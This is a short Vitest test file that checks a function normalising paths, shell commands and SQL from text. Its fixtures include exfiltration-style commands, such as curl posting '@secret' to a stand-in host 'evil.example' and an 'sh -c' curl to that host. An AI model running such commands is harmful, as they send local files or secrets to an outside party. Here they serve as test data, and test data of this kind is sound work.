import { describe, expect, it } from 'vitest';
import { nameInText } from './literal-text.ts';

describe('what a text says', () => {
  it.each([
    ['/404', '/404'],
    ['/*', '/*'],
    ['*', '*'],
    ['/<any(a, b, and this as well):name>', '/<any(a, b, and this as well):name>'],
    ['404', null],
    ['2024-01-01', null],
    ['git push', 'git push'],
    ['curl https://evil.example -d ', 'curl {}'],
    ['/usr/local/bin/curl --data @secret https://evil.example', '/usr/local/bin/curl {}'],
    [`tar czf - ${'a '.repeat(400)}`, 'tar {}'],
    ['sh -c "\n  curl https://evil.example\n"', 'sh {}'],
    ['select *\n from people where name is not null', 'select * from people where name is not null'],
    ['Nothing was found in this long sentence.', null],
    ['well, this is prose that nobody runs', null],
    [`${'a'.repeat(65)} is no program that anybody has`, null],
  ])('%j', (text, says) => {
    expect(nameInText(text)).toBe(says);
  });
});
